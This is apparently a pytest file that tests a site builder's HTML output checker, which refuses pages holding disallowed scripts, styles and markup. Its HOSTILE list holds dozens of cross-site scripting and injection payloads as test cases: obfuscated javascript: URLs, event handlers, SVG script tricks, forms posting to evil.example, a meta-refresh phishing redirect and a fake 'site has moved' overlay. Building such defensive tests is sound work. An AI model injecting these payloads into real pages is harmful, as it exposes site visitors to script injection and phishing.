"""kb/output_safety.py: a built page held to the allow-list, row by row. Each hostile row is a
form that got past the source checks in a review (or a close cousin); each must be refused, and
the theme's real markup must pass."""

from __future__ import annotations

import pytest

from kb.output_safety import page_output_problems, source_line

SCRIPTS = frozenset({"assets/javascripts/bundle.a5f9d56c.min.js", "assets/terms.js"})
STYLES = frozenset({"assets/site.css", "assets/stylesheets/main.57a0d79d.min.css"})
THEME = ('<header class="md-header"><form class="md-search__form" name="search"><input></form>'
         '<form class="md-header__option" data-md-component="palette"></form></header>')


def page(body: str, head: str = "") -> str:
    return (f'<!doctype html><html><head><meta charset="utf-8"><link rel="stylesheet" href="../assets/site.css">{head}</head>'
            f'<body>{THEME}<article>{body}</article>'
            '<script src="../assets/javascripts/bundle.a5f9d56c.min.js"></script>'
            '<script type="application/ld+json">{"a": 1}</script></body></html>')


def test_the_theme_s_own_markup_passes():
    body = ('<table><tr><td style="text-align: right;">1</td></tr></table>'
            '<p><a href="../glossary/#genocide">g</a> <img src="../assets/images/x.png" alt=""></p>'
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0"/></svg>')
    assert page_output_problems(page(body, '<link rel="canonical" href="https://x.org/about/">'), "about/",
                                SCRIPTS, STYLES) == []


HOSTILE = [
    # id, body or head HTML, words the message must hold
    ("script-file-from-backticks", '<p>`<script src="/assets/x.js"></script>`</p>', "assets/x.js"),
    ("script-relative", '<script src="../assets/x.js"></script>', "../assets/x.js"),
    ("script-other-host", '<script src="https://evil.example/x.js"></script>', "evil.example"),
    ("script-protocol-relative", '<script src="//evil.example/x.js"></script>', "evil.example"),
    ("script-climbs-out", '<script src="../../../x.js"></script>', "x.js"),
    ("inline-script", "<script>window.__pwned=1</script>", "inline script"),
    ("inline-script-typed", '<script type="module">window.__pwned=1</script>', "inline script"),
    ("svg-script", '<svg><script>window.__pwned=1</script></svg>', "inline script"),
    ("handler", '<p onclick="alert(1)">x</p>', "onclick"),
    ("handler-upper", '<img src="x.png" ONERROR="alert(1)">', "onerror"),
    ("svg-handler", '<svg onload="alert(1)"></svg>', "onload"),
    ("javascript-url", '<a href="javascript:alert(1)">x</a>', "URL"),
    ("javascript-url-entities", '<a href="jav&#x61;script&colon;alert(1)">x</a>', "URL"),
    ("javascript-url-split", '<a href="java\nscript:alert(1)">x</a>', "URL"),
    ("javascript-url-tab", '<a href=" j\tavascript:alert(1)">x</a>', "URL"),
    ("vbscript-url", '<a href="vbscript:msgbox(1)">x</a>', "URL"),
    ("data-url", '<a href="data:text/html,<script>alert(1)</script>">x</a>', "URL"),
    ("data-image", '<img src="data:image/svg+xml,<svg onload=alert(1)>">', "URL"),
    ("srcset-data", '<img srcset="x.png 1x, data:image/png;base64,AAAA 2x">', "URL"),
    ("xlink-javascript", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "URL"),
    ("svg-animate-href", '<svg><a><animate attributeName="href" to="javascript:alert(1)"/></a></svg>', "animates"),
    ("svg-set-handler", '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>', "event handler"),
    ("form-action", '<form action="https://evil.example/"><input name="p"></form>', "<form>"),
    ("button-formaction", '<button formaction="https://evil.example/">x</button>', "formaction"),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "<iframe>"),
    ("object", '<object data="x.swf"></object>', "<object>"),
    ("embed", '<embed src="x.swf">', "<embed>"),
    ("base", '<base href="https://evil.example/">', "<base>"),
    ("meta-refresh-from-description", '<meta name="description" content="0;url=https://evil.example/phish" http-equiv="refresh">',
     "http-equiv"),
    ("style-element-from-title", "<style>body{display:none}</style>", "<style>"),
    ("style-overlay", '<div style="position:fixed;inset:0;background:#fff">This site has moved</div>', "style attribute"),
    ("style-on-cell", '<td style="text-align: right; position: fixed">x</td>', "style attribute"),
    ("stylesheet-foreign", '<link rel="stylesheet" href="https://evil.example/x.css">', "stylesheet"),
    ("link-import", '<link rel="import" href="x.html">', "link rel"),
    ("template", "<template><img src=x onerror=alert(1)></template>", "<template>"),
]


@pytest.mark.parametrize("case", HOSTILE, ids=[c[0] for c in HOSTILE])
def test_hostile_output_is_refused(case):
    _, markup, words = case
    where = "head" if markup.startswith(("<base", "<meta", "<link", "<style")) else "body"
    built = page("", markup) if where == "head" else page(markup)
    problems = page_output_problems(built, "about/", SCRIPTS, STYLES)
    assert problems, markup
    assert any(words in p.message for p in problems), [p.message for p in problems]
    assert all(p.line >= 1 for p in problems)


def test_a_form_outside_the_header_is_refused_even_with_the_theme_s_class():
    built = page('<form class="md-search__form" action="https://evil.example/"></form>')
    assert [p.message for p in page_output_problems(built, "about/", SCRIPTS, STYLES)] == ["the page holds a <form>"]


def test_under_a_sub_path_only_the_site_s_own_scripts_pass():
    built = page('<script src="/repo/assets/terms.js"></script><script src="/other/assets/terms.js"></script>')
    problems = page_output_problems(built, "about/", SCRIPTS, STYLES, base_path="/repo/")
    assert [p.needle for p in problems] == ["/other/assets/terms.js"]


def test_the_source_line_is_found_for_the_contributor():
    source = "---\ntitle: About\n---\n\n# About\n\n<p>`<SCRIPT src=\"/assets/x.js\"></script>`</p>\n"
    assert source_line(source, "/assets/x.js") == 7
    assert source_line(source, "<script") == 7
    assert source_line(source, "nothing") == 0
